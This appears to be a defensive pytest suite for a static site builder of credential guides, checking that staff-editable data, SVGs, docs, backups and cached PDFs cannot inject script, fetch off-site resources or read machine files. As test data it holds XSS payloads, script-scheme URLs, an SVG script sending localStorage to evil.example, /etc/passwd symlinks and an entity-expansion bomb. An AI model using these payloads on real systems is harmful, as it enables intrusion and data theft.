"""The trust boundary: what data, site.yml, docs/ and the cache may make the build or a page do.

Every value a district's staff can edit or merge is untrusted. Each class of
attack has several variants here, and each outcome is checked where it would
land: the load's error, the built HTML and its policy, Chromium, the PDFs.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pikepdf
import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect
from test_hostile_input import CREDENTIAL, load_errors, set_field

from conftest import CSP_VIOLATIONS, copy_project, download_incomplete, mkdocs_build, serve
from credential_guides.pdf import PdfJob, cached_pdf, is_cached, render_pdfs, site_only_fetcher
from credential_guides.project_files import script_in_published_file
from credential_guides.staging import check_writable

SCRIPT_ADDRESSES = [
    "javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "java&#9;script:alert(1)",
    "javascript&colon;alert(1)",
    " JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:x",
]
OTHER_BAD_ADDRESSES = ["//evil.example/", "https:///no-host", "/\\evil.example/", "guide/"]


def line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def replace_in(path: Path, old: str, new: str) -> int:
    """Replace the first ``old`` in ``path`` by ``new``; returns its line."""
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return line_of(text, old)


URL_FIELDS = [
    # (file, what is there, how to write a value, the field path in the error)
    ("credentials_data/registries/citations.yml", "    - url: https://ohiofamiliesengage.osu.edu\n",
     "    - url: {}\n", "citations[0].links[0].url"),
    ("credentials_data/registries/stacks.yml", 'url: "http://creativecommons.org/licenses/by-nc-nd/4.0/"}',
     "url: {}}}", "stacks[0].license.url"),
    ("credentials_data/registries/stacks.yml", "    url: https://nea.certificationbank.com/\n",
     "    url: {}\n", "stacks[0].submission_portal.url"),
]  # fmt: skip


@pytest.mark.parametrize("address", SCRIPT_ADDRESSES + OTHER_BAD_ADDRESSES)
@pytest.mark.parametrize(("file", "old", "new", "field"), URL_FIELDS)
def test_every_address_field_takes_only_web_and_mail_addresses(
    tmp_path: Path, file: str, old: str, new: str, field: str, address: str
) -> None:
    project = copy_project(tmp_path / "p")
    line = replace_in(project / file, old, new.format(json.dumps(address)))
    errors, _ = load_errors(project)
    mine = [e for e in errors if e.startswith(f"{file}:{line}: ")]
    assert len(mine) == 1, errors
    message = mine[0].split(": ", 2)[2]
    assert mine[0].split(": ", 2)[1].endswith(field.rsplit(".", 1)[-1]), mine[0]
    assert message.startswith("expected "), message
    assert "found" in message, message


def errors_with(tmp_path: Path, field: str, value: str) -> tuple[list[str], int]:
    """The load's errors with the guide's top-level ``field`` set to ``value``, and that field's line."""
    project = copy_project(tmp_path / "p")
    path = project / CREDENTIAL
    text, line = set_field(path.read_text(encoding="utf-8"), field, value)
    path.write_text(text, encoding="utf-8")
    return load_errors(project)[0], line


@pytest.mark.parametrize("address", SCRIPT_ADDRESSES)
def test_a_script_address_in_a_markdown_link_is_refused_however_it_is_written(tmp_path: Path, address: str) -> None:
    errors, line = errors_with(tmp_path, "key_method", f"See [the details]({address}).")
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"{CREDENTIAL}:{line}: key_method: expected links to http(s) or mailto addresses only")


@pytest.mark.parametrize(
    "picture", ["http://127.0.0.1:9/track.png", "https://evil.example/a.png", "file:///etc/passwd"]
)
def test_a_picture_from_anywhere_but_the_site_is_refused(tmp_path: Path, picture: str) -> None:
    errors, line = errors_with(tmp_path, "competency", f"Look ![map]({picture}) here.")
    expected = f"{CREDENTIAL}:{line}: competency: expected a picture of this site (a path like 'assets/map.png')"
    assert len(errors) == 1 and errors[0].startswith(expected), errors


@pytest.mark.parametrize("where", ["credentials_data/local/stolen.yml", "credentials_data/stolen.yml"])
def test_a_data_file_that_is_a_link_out_of_the_repository_is_refused(tmp_path: Path, where: str) -> None:
    outside = tmp_path / "secret.yml"
    outside.write_text("token: ghp_secret\n", encoding="utf-8")
    project = copy_project(tmp_path / "p")
    (project / where).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(outside, project / where)
    errors, _ = load_errors(project)
    assert errors == [
        f"{where}:1: expected a file inside the project, found a symbolic link to {outside}, which is outside it"
    ]


def test_site_yml_as_a_link_out_of_the_repository_is_refused(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "p")
    outside = tmp_path / "site.yml"
    shutil.move(project / "site.yml", outside)
    os.symlink(outside, project / "site.yml")
    errors, _ = load_errors(project)
    assert errors == [
        f"site.yml:1: expected a file inside the project, found a symbolic link to {outside}, which is outside it"
    ]


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">{}</svg>'


@pytest.mark.parametrize(
    ("inside", "found"),
    [
        ("<script>fetch('//evil.example/'+localStorage)</script>", "found a <script> element"),
        ('<rect width="10" height="10" onload="alert(1)"/>', "found the event attribute onload= on <rect>"),
        (
            '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>',
            "found a link to 'javascript:alert(1)'",
        ),
        ('<a href="https://evil.example/"><rect width="1" height="1"/></a>', "found a link to 'https://evil.example/'"),
        ("<foreignObject><div>x</div></foreignObject>", "found a <foreignobject> element"),
        ('<image href="http://127.0.0.1:9/x.png"/>', "found a link to 'http://127.0.0.1:9/x.png'"),
        ("<style>@import url(https://evil.example/x.css);</style>", "found a style that loads an address"),
    ],
)
def test_an_svg_that_could_run_script_or_load_anything_is_refused(tmp_path: Path, inside: str, found: str) -> None:
    logo = tmp_path / "logo.svg"
    logo.write_text(SVG.format(inside), encoding="utf-8")
    problem = script_in_published_file(logo)
    assert problem is not None and found in problem, problem


def test_a_plain_svg_and_other_files_are_published(tmp_path: Path) -> None:
    logo = tmp_path / "logo.svg"
    logo.write_text(SVG.format('<use href="#a"/><circle id="a" r="4" fill="#303f9f"/>'), encoding="utf-8")
    assert script_in_published_file(logo) is None
    for name in ("photo.png", "guide.pdf", "notes.txt"):
        (tmp_path / name).write_bytes(b"x")
        assert script_in_published_file(tmp_path / name) is None
    for name in ("page.html", "page.HTM", "x.xhtml", "x.svgz", "feed.xml"):
        (tmp_path / name).write_bytes(b"<html></html>")
        problem = script_in_published_file(tmp_path / name)
        assert problem is not None and "write it as a Markdown page instead" in problem


def test_an_svg_with_entities_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>'
    (tmp_path / "bomb.svg").write_text(bomb, encoding="utf-8")
    assert script_in_published_file(tmp_path / "bomb.svg") == (
        "expected an SVG picture without script, links or declarations, found a <!DOCTYPE> or <!ENTITY>"
    )


class _Counting(http.server.BaseHTTPRequestHandler):
    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Counting.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def counting_server() -> Iterator[str]:
    _Counting.requests = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_the_pdfs_read_only_the_sites_files_even_from_html_that_escaped_every_check(
    tmp_path: Path, counting_server: str
) -> None:
    """Print HTML written past every check on purpose: the PDF renderer refuses each reference, fetches nothing."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "leak.txt").symlink_to("/etc/passwd")
    hostile = (
        "<html><body><p>Guide</p>"
        '<a rel="attachment" href="file:///etc/passwd">a</a>'
        '<a rel="attachment" href="leak.txt">b</a>'
        '<a rel="attachment" href="/proc/self/environ">c</a>'
        f'<img src="{counting_server}/image.png" alt="x"><img src="{counting_server.replace("http", "https")}/x.png">'
        f'<link rel="stylesheet" href="{counting_server}/style.css"></body></html>'
    )
    job = PdfJob("pdf/hostile.pdf", "Hostile", hostile, docs.as_uri() + "/")
    with pytest.raises(Exception) as raised:
        render_pdfs([job], tmp_path / "cache", workers=1)
    message = str(raised.value)
    for refused in ("file:///etc/passwd", "leak.txt", "/proc/self/environ", "/image.png", "/style.css"):
        assert refused in message, message
    assert "a PDF may use only the site's own files under docs/" in message
    assert _Counting.requests == []
    assert not cached_pdf(job, tmp_path / "cache").exists()


def test_the_pdf_fetcher_serves_files_under_docs_and_data_addresses(tmp_path: Path) -> None:
    (tmp_path / "logo.png").write_bytes(b"\x89PNG")
    fetcher = site_only_fetcher(tmp_path.as_uri() + "/")
    for address, expected in (((tmp_path / "logo.png").as_uri(), b"\x89PNG"), ("data:text/plain,hello", b"hello")):
        found = fetcher.fetch(address)
        assert found.read() == expected
        found.close()
    for refused in ("file:///etc/hostname", "http://127.0.0.1:1/", "ftp://x/", (tmp_path / "..").as_uri()):
        with pytest.raises(ValueError, match="a PDF may use only the site's own files"):
            fetcher.fetch(refused)


@pytest.mark.parametrize("kind", ["symlink", "folder"])
def test_a_cache_entry_that_is_not_a_plain_file_is_never_taken(tmp_path: Path, kind: str) -> None:
    job = PdfJob("pdf/x.pdf", "X", "<p>x</p>", tmp_path.as_uri() + "/")
    cache = tmp_path / "cache"
    cache.mkdir()
    entry = cached_pdf(job, cache)
    if kind == "symlink":
        secret = tmp_path / "secret"
        secret.write_bytes(b"token")
        entry.symlink_to(secret)
        entry.with_suffix(".sha256").write_text("3c469e9d6c5875d37a43f353d4f88e61fcf812c66eee3457465a40b0da4153e0")
    else:
        entry.mkdir()
    assert not is_cached(job, cache)
    assert not entry.is_symlink() and not entry.is_dir()


def test_a_site_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(OSError) as raised:
        check_writable(blocker / "site")
    assert str(raised.value).startswith(f"{blocker / 'site'}: the site cannot be written here: ")
    assert "\n" not in str(raised.value)


# What a district's staff could paste into a title, a Markdown field and site.yml, and which is
# accepted: it must reach every page as the text it is.
MARKUP = "<script>window.cgInjected=1</script><img src=x onerror=window.cgInjected=2>\"' {: onclick=x} #"
MARKDOWN_WITH_ATTRIBUTES = (
    'Plan **the year**{: style="position:fixed;inset:0;z-index:9" } with <b onclick=x>families</b> '
    '{: onclick="window.cgInjected=3" } &lt;img src=x onerror=alert(1)&gt;'
)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    project = copy_project(tmp_path_factory.mktemp("hostile"))
    stacks = project / "credentials_data/registries/stacks.yml"
    replace_in(stacks, "  title: Family and Community Engagement", "  title: " + json.dumps("Family " + MARKUP))
    path = project / CREDENTIAL
    replace_in(path, "title: Family Engagement as Access", "title: " + json.dumps("Access " + MARKUP) + " #")
    replace_in(path, "          title: Survey for families", "          title: " + json.dumps("Survey " + MARKUP))
    text, _ = set_field(path.read_text(encoding="utf-8"), "competency", MARKDOWN_WITH_ATTRIBUTES)
    path.write_text(text, encoding="utf-8")
    settings = project / "site.yml"
    replace_in(settings, "site_name: ", "site_name: " + json.dumps("Springfield " + MARKUP) + " #")
    replace_in(settings, "how_to_submit: null", "how_to_submit: " + json.dumps(MARKDOWN_WITH_ATTRIBUTES))
    (project / "docs" / "notes.md").write_text(
        "# Notes &lt;img src=x onerror=window.cgInjected=4&gt;\n\nText.\n", encoding="utf-8"
    )
    result = mkdocs_build(project, project / "site", CG_PDF="0", CG_OFFLINE_ZIP="0")
    assert result.returncode == 0, result.stderr
    with serve(project / "site") as origin:
        yield project / "site", origin


def record_and_dismiss(dialogs: list[str], dialog: Dialog) -> None:
    dialogs.append(f"{dialog.type}: {dialog.message}")
    dialog.dismiss()


GUIDE = "/family-community-engagement/family-engagement-access-opportunities/"


@pytest.mark.slow
@pytest.mark.parametrize("path", ["/", GUIDE, GUIDE + "templates/information-gathering-survey-handout/", "/notes/"])
def test_markup_in_titles_and_markdown_is_text_on_every_page_in_the_browser(
    hostile_site: tuple[Path, str], browser: Browser, path: str
) -> None:
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: record_and_dismiss(dialogs, dialog))
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(hostile_site[1] + path)
    page.wait_for_load_state("load")
    assert page.evaluate("() => window.cgInjected") is None
    assert dialogs == []
    assert page.locator("[onclick], [onerror], [style*=fixed], img[src=x]").count() == 0
    assert (
        page.locator("script:not([src]):not([type])").evaluate_all(
            "scripts => scripts.filter(s => s.textContent.includes('cgInjected')).length"
        )
        == 0
    )
    assert page.title().endswith("Springfield " + MARKUP), page.title()
    assert "Springfield " + MARKUP in page.locator(".md-header__topic").first.inner_text()
    assert "Family " + MARKUP in page.locator(".md-nav").first.inner_text()
    if path == GUIDE:
        assert page.locator("h1").inner_text() == "Access " + MARKUP
        assert "Family " + MARKUP in page.locator(".md-tags").inner_text()
        competency = page.locator("h2#competency + p").inner_text()
        assert competency == (
            'Plan the year{: style="position:fixed;inset:0;z-index:9" } with <b onclick=x>families</b> '
            '{: onclick="window.cgInjected=3" } &lt;img src=x onerror=alert(1)&gt;'
        )
    if path.endswith("-handout/"):
        assert page.title().startswith("Survey " + MARKUP + " — handout - "), page.title()
    if path == "/notes/":
        assert page.locator("h1").inner_text() == "Notes <img src=x onerror=window.cgInjected=4>"
    origin = hostile_site[1]
    assert [r for r in requests if not r.startswith(origin) and not r.startswith("data:")] == []
    context.close()


@pytest.mark.slow
def test_the_hostile_site_policies_list_only_the_templates_hashes(hostile_site: tuple[Path, str]) -> None:
    """No page's policy grew a hash for what the data held: the same hashes as the shipped site's pages."""
    policies = set()
    for html in hostile_site[0].rglob("*.html"):
        match = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html.read_text(encoding="utf-8"))
        assert match, html
        policies.update(re.findall(r"'sha256-[^']+'", match.group(1)))
        assert "unsafe-hashes" not in match.group(1) and "unsafe-inline" not in match.group(1)
    assert 3 <= len(policies) <= 12, policies


BYPASS = (
    "<script>window.cgInjected=1</script>"
    "<style>body{background:rgb(255, 0, 0) !important}</style>"
    '<a id="cover" style="position:fixed;inset:0;background:rgb(0, 0, 255)" href="https://evil.example/">x</a>'
)


@pytest.mark.slow
def test_the_policy_blocks_script_and_style_that_escaped_escaping(site: Path, page: Page, tmp_path: Path) -> None:
    """Defence in depth: markup written into a built page after the build (as if escaping had failed)
    neither runs nor styles anything."""
    copy = tmp_path / "site"
    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("pdf", "downloads", "pagefind"))
    guide = copy / GUIDE.strip("/") / "index.html"
    html = guide.read_text(encoding="utf-8")
    guide.write_text(html.replace('<article class="md-content__inner md-typeset">', "<article>" + BYPASS, 1))
    before = len(CSP_VIOLATIONS)
    with serve(copy) as origin:
        page.goto(origin + GUIDE)
        page.wait_for_load_state("load")
        page.wait_for_timeout(200)
        assert page.evaluate("() => window.cgInjected") is None
        assert page.evaluate("() => getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
        assert page.evaluate("() => getComputedStyle(document.getElementById('cover')).position") != "fixed"
    reported = CSP_VIOLATIONS[before:]
    del CSP_VIOLATIONS[before:]  # expected here; any other test reporting one fails
    assert any("script-src-elem blocked inline" in v for v in reported), reported
    assert any("style-src-elem blocked inline" in v for v in reported), reported
    assert any("style-src-attr blocked inline" in v for v in reported), reported


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("docs/evil.html", "<script>alert(1)</script>", "docs/evil.html: expected Markdown pages (.md)"),
        ("docs/assets/logo.svg", SVG.format("<script>alert(1)</script>"), "docs/assets/logo.svg: expected an SVG"),
        ("docs/assets/passwd.txt", Path("/etc/passwd"), "docs/assets/passwd.txt: expected a file inside the project"),
        ("docs/raw.md", "# Raw\n\n<script>alert(1)</script>\n", "raw.md: 1 inline script(s) that the site's"),
    ],
)
def test_docs_that_would_publish_script_or_the_machines_files_stop_the_build(
    tmp_path: Path, name: str, content: str | Path, expected: str
) -> None:
    project = copy_project(tmp_path / "p")
    target = project / name
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, Path):
        target.symlink_to(content)
    else:
        target.write_text(content, encoding="utf-8")
    result = mkdocs_build(project, project / "site", CG_PDF="0", CG_OFFLINE_ZIP="0")
    assert result.returncode != 0
    assert expected in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert not (project / "site").exists()


ARTIFACT = "/sample-stack/sample-credential/templates/an-artifact/"
SUMMARY = "/sample-stack/sample-credential/templates/"
SAVED = "Saved on this device"
JPEG_HEAD = "/9j/4AAQSkZJRgABAQ=="


def a_record(**changes: object) -> dict[str, object]:
    record: dict[str, object] = {
        "schema": 2,
        "credential": "sample-credential",
        "template": "an-artifact",
        "title": "An artifact",
        "page": ARTIFACT,
        "saved": "2030-01-01T10:00:00.000Z",
        "values": {"name": "From the file"},
        "checks": {},
        "rows": {},
        "labels": {},
        "orphans": {},
    }
    record.update(changes)
    return record


HOSTILE_BACKUPS = {
    "a billion rows": ([a_record(rows={"rows": 1_000_000_000})], [], "rows.rows: expected a number of rows from 0 to"),
    "saved is no date": ([a_record(saved={"not": "a date"})], [], "saved: expected a date and time"),
    "saved is a number": ([a_record(saved=1e20)], [], "saved: expected a date and time"),
    "values null": ([a_record(values=None)], [], "values: expected an object, found null"),
    "an off-site page": ([a_record(page="//evil.example/collect")], [], "page: expected a path of this site"),
    "a script page": ([a_record(page="javascript:alert(1)")], [], "page: expected a path of this site"),
    "a value that is markup": ([a_record(values={"name": {"<b>": 1}})], [], "values.name: expected text"),
    "a credential title that is no text": (
        [a_record(credentialTitle={"<b>": 1})], [], "credentialTitle: expected text"
    ),
    "a credential title of a megabyte": (
        [a_record(credentialTitle="x" * 1_000_000)], [], "credentialTitle: expected text"
    ),
    "a JPEG that is a page": (
        [a_record(values={"evidence": [{"id": "abc123", "kind": "photo", "name": "a.jpg", "bytes": 40}]})],
        [{"id": "abc123", "kind": "photo", "name": "a.jpg", "bytes": 40, "type": "image/jpeg",
          "data": "PGh0bWw+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PjwvaHRtbD4=", "thumb": None}],
        "file 1: data: expected the bytes of a JPEG picture, found other bytes",
    ),
    "a file typed as a page": (
        [a_record()],
        [{"id": "abc123", "kind": "photo", "type": "text/html", "data": JPEG_HEAD}],
        'file 1: type: expected image/jpeg or application/pdf, found "text/html"',
    ),
}  # fmt: skip


def typed_and_saved(page: Page, site: str, text: str) -> None:
    """The sample template open with ``text`` typed into its short answer and saved on the device."""
    page.goto(site + ARTIFACT)
    page.locator("#f-name").fill(text)
    expect(page.locator(".cg-save-state")).to_contain_text(SAVED)


@pytest.fixture
def watched_page(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page whose dialogs (none expected) are counted and dismissed."""
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: record_and_dismiss(dialogs, dialog))
    yield page, dialogs
    context.close()


@pytest.mark.slow
@pytest.mark.parametrize("where", ["your answers", "the template"])
@pytest.mark.parametrize("case", list(HOSTILE_BACKUPS))
def test_a_backup_that_breaks_the_answer_model_is_refused_and_nothing_kept_changes(
    minimal_site: str, watched_page: tuple[Page, list[str]], tmp_path: Path, case: str, where: str
) -> None:
    page, dialogs = watched_page
    typed_and_saved(page, minimal_site, "Typed here and kept")
    kept = page.evaluate("() => JSON.stringify(Object.entries(localStorage).sort())")
    records, files, expected = HOSTILE_BACKUPS[case]
    backup = tmp_path / "backup.json"
    backup.write_text(
        json.dumps({"format": "credential-guides-backup", "schema": 2, "records": records, "files": files})
    )
    if where == "your answers":
        page.goto(minimal_site + "/your-answers/")
        page.locator("input[data-action=restore]").set_input_files(backup)
        status = page.locator(".cg-status")
    else:
        page.locator("input[data-action=import]").set_input_files(backup)
        status = page.locator(".cg-template .cg-status").first
    expect(status).to_contain_text("That file was not restored: it is not answers as this site writes them (")
    expect(status).to_contain_text(expected)
    expect(status).to_contain_text("Nothing already saved on this device was changed.")
    assert page.evaluate("() => JSON.stringify(Object.entries(localStorage).sort())") == kept
    assert page.evaluate("() => new Promise(r => { const q = indexedDB.databases(); q.then(d => r(d.length)); })") <= 1
    assert dialogs == []
    page.goto(minimal_site + ARTIFACT)
    expect(page.locator("#f-name")).to_have_value("Typed here and kept")


@pytest.mark.slow
def test_a_record_stored_past_every_check_hangs_no_page(
    minimal_site: str, watched_page: tuple[Page, list[str]]
) -> None:
    """A record put in storage by other means (an older release, a tool): the pages ignore it and work."""
    page, dialogs = watched_page
    page.goto(minimal_site + ARTIFACT)
    key = page.evaluate("() => Object.keys(localStorage)")
    typed_and_saved(page, minimal_site, "x")
    (key,) = [k for k in page.evaluate("() => Object.keys(localStorage)") if k not in key and "an-artifact" in k]
    bad = a_record(rows={"rows": 1_000_000_000}, saved={"x": 1}, values={"name": "planted"})
    page.evaluate("([k, v]) => localStorage.setItem(k, v)", [key, json.dumps(bad)])
    for path in (SUMMARY, "/your-answers/", "/", ARTIFACT):
        page.goto(minimal_site + path, timeout=10_000)
        page.wait_for_load_state("load")
        assert page.evaluate("() => 1 + 1") == 2, f"{path} answers"
    page.locator("#f-name").fill("Typed after")
    expect(page.locator(".cg-save-state")).to_contain_text(SAVED)
    assert dialogs == []


@pytest.mark.slow
def test_a_save_that_fails_says_so_until_one_succeeds_and_leaving_asks_first(
    minimal_site: str, watched_page: tuple[Page, list[str]]
) -> None:
    page, dialogs = watched_page
    page.goto(minimal_site + ARTIFACT)
    page.evaluate(
        """() => {
        window.cgRealSetItem = Storage.prototype.setItem;
        Storage.prototype.setItem = function () { throw new DOMException("full", "QuotaExceededError"); };
      }"""
    )
    field = page.locator("#f-name")
    field.click()
    page.keyboard.type("An answer that does not fit")
    state = page.locator(".cg-save-state")
    expect(state).to_have_text(re.compile(r"^Not saved: your latest answers are only on this page\."))
    expect(page.locator(".cg-template .cg-status").first).to_contain_text("QuotaExceededError")
    page.keyboard.type(" and more")
    page.wait_for_timeout(1500)
    expect(state).to_have_text(re.compile(r"^Not saved"))
    page.close(run_before_unload=True)
    page.wait_for_timeout(500)
    assert [d for d in dialogs if d.startswith("beforeunload")], dialogs
    assert not page.is_closed(), "the dialog was dismissed: the reader stays on the page"
    page.evaluate("() => { Storage.prototype.setItem = window.cgRealSetItem; }")
    page.keyboard.type("!")
    expect(state).to_contain_text(SAVED)
    before = len(dialogs)
    with page.expect_event("close", timeout=5000):  # with every answer saved, leaving asks nothing
        page.close(run_before_unload=True)
    assert len(dialogs) == before


@pytest.mark.slow
def test_a_guide_naming_a_machine_file_and_a_local_address_is_refused_and_nothing_is_fetched(
    tmp_path: Path, counting_server: str
) -> None:
    project = copy_project(tmp_path / "p")
    citations = project / "credentials_data/registries/citations.yml"
    line = replace_in(citations, "    - url: https://ohiofamiliesengage.osu.edu\n", "    - url: file:///etc/passwd\n")
    path = project / CREDENTIAL
    text, image_line = set_field(path.read_text(encoding="utf-8"), "competency", f"See ![x]({counting_server}/a.png).")
    path.write_text(text, encoding="utf-8")
    result = mkdocs_build(project, project / "site", CG_OFFLINE_ZIP="0")
    assert result.returncode != 0
    assert (
        f"credentials_data/registries/citations.yml:{line}: citations[0].links[0].url: "
        "expected links to http(s) or mailto addresses only, found a link to file:"
    ) in result.stderr
    assert f"{CREDENTIAL}:{image_line}: competency: expected a picture of this site" in result.stderr
    assert "Traceback" not in result.stderr
    assert _Counting.requests == []
    assert not (project / "site").exists()


@pytest.mark.slow
def test_a_restored_title_and_answer_that_are_markup_are_shown_as_text_on_your_answers_and_in_the_offer(
    minimal_site: str, context: BrowserContext, tmp_path: Path
) -> None:
    """The credential's title (Your answers) and an answer of another template (offered again under a field)
    come from a restored file: they are shown as the text they are, and nothing in them runs."""
    page = context.new_page()
    dialogs: list[str] = []

    def answer(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.accept()

    page.on("dialog", answer)
    other = a_record(
        template="part-1-overview", title=MARKUP, credentialTitle=MARKUP, values={"question-1": MARKUP + " words"}
    )
    backup = tmp_path / "backup.json"
    backup.write_text(json.dumps({"format": "credential-guides-backup", "schema": 2, "records": [other], "files": []}))
    page.goto(minimal_site + "/your-answers/")
    page.locator("input[data-action=restore]").set_input_files(backup)
    row = page.locator(".cg-backup-list tbody tr").first
    expect(row.locator("td").nth(1)).to_have_text(MARKUP)
    page.goto(minimal_site + ARTIFACT)
    offer = page.locator(".cg-field", has=page.locator("#f-answer")).locator(".cg-reuse")
    offer.locator("summary").click()
    expect(offer.locator(".cg-reuse-text")).to_have_text(MARKUP + " words")
    expect(offer.locator(".cg-reuse-where")).to_contain_text(MARKUP)
    assert page.evaluate("() => window.cgInjected") is None
    assert page.locator(".cg-reuse img, .cg-reuse script, .cg-backup-list script").count() == 0
    assert len(dialogs) == 1 and "Restore" in dialogs[0], "only the restore's own question"


@pytest.mark.slow
@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,<b>x</b>", "vbscript:msgbox(1)"]
)
def test_an_address_of_another_scheme_in_an_answer_is_no_link_in_the_pdf_or_the_word_file(
    minimal_site: str, watched_page: tuple[Page, list[str]], tmp_path: Path, address: str
) -> None:
    page, _ = watched_page
    page.goto(minimal_site + ARTIFACT)
    page.locator("#f-answer").fill(f"See {address} and https://example.org/ok for the notes.")
    page.locator("#f-files-0-link").fill(address)
    expect(page.locator(".cg-save-state")).to_contain_text(SAVED)
    pdf = pikepdf.open(download_incomplete(page, "Download as PDF", tmp_path))
    uris = {str(a.A.URI) for p in pdf.pages for a in p.obj.get("/Annots", []) if a.get("/Subtype") == "/Link"}
    assert uris == {"https://example.org/ok"}
    word = zipfile.ZipFile(download_incomplete(page, "Download as Word (.docx)", tmp_path))
    relations = word.read("word/_rels/document.xml.rels").decode()
    assert "https://example.org/ok" in relations
    assert address.split(":")[0] + ":" not in relations
